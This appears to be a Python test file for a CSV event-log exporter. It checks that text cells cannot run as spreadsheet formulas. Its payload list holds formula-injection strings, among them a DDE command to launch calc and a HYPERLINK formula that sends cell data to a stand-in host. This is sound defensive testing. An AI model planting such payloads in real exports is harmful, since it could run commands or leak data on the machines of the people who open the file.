"""CSV that a spreadsheet shows and never runs."""

import csv
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from states.eventlog import COLUMNS, LEFT_OUT
from tests.eventlog_entries import ASSIGNED, OPENED, told
from workflow.eventlogs.about import About
from workflow.eventlogs.csv_form import write_csv
from workflow.workbooks.csv_cells import guarded, unguarded

ABOUT = About(None, "2026-11-20T09:00:00.000000Z", {})
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PAYLOADS = [
    f"{start}{rest}"
    for start in STARTS
    for rest in (
        "", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"点此")', "SUM(A1:A9)", '"=1"',
        "A1\r\n=2", "IMPORTXML(A1)", "望海街道", "'", "@", "+1", "-1", " =1", "\x00=1", "，=1", "＝1＋1",
        'DDE("a";"b")', "WEBSERVICE(A1)", "中文\t=1", "#REF!", "{=1}", "%0A=1", "<b>", "12345678901234567",
        "2026-07-01", "🙂", "，",
    )
]  # fmt: skip


def written(tmp_path, trace):
    path = tmp_path / "log.csv"
    write_csv(path, ABOUT, [trace])
    return path.read_bytes()


def read(data):
    return list(csv.DictReader(data.decode("utf-8-sig").splitlines(keepends=True)))


def test_the_file_is_marked_quoted_and_says_what_it_leaves_out(tmp_path):
    data = written(tmp_path, told(OPENED, ASSIGNED))
    assert data.startswith(b'\xef\xbb\xbf"case","seq",') and b"\r\n" in data
    header = next(csv.reader(data.decode("utf-8-sig").splitlines()))
    assert header[:-1] == [column.name for column in COLUMNS] and header[-1].endswith(LEFT_OUT)
    assert all(cell.startswith('"') for line in data.decode().splitlines()[1:] for cell in line.split(","))


def test_a_line_is_an_entry(tmp_path):
    opened, assigned = read(written(tmp_path, told(OPENED, ASSIGNED)))
    assert (opened["activity"], opened["working_days_since_former"], opened["provisional"]) == (
        "opened",
        "",
        "false",
    )
    assert (assigned["lead_unit_name"], assigned["working_minutes_since_former"]) == ("市城市管理局", "480")


def test_there_are_three_hundred_ways_to_write_a_formula():
    assert len(set(PAYLOADS)) > 300


@pytest.mark.parametrize("name", ["case", "label", "lead_unit_name", "document_number"])
def test_no_cell_of_text_runs(tmp_path, name):
    trace = told(OPENED)
    happenings = tuple(replace(trace.happenings[0], **{name: payload}) for payload in PAYLOADS)
    path = tmp_path / "log.csv"
    write_csv(path, ABOUT, [replace(trace, happenings=happenings)])
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [row[name] for row in csv.DictReader(file)]
    assert not any(cell.startswith(tuple(STARTS)) for cell in cells)
    assert [unguarded(cell) for cell in cells] == PAYLOADS


def test_a_number_that_is_negative_stays_a_number(tmp_path):
    trace = told(OPENED, replace_time(ASSIGNED, "2026-06-29T01:00:00Z"))
    assert read(written(tmp_path, trace))[1]["working_minutes_since_former"] == "-480"


def replace_time(entry, at):
    return {**entry, "occurred_at": at}


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n＝＋－＠甲1 \"")))
def test_what_was_told_can_always_be_had_back(text):
    assert unguarded(guarded(text)) == text
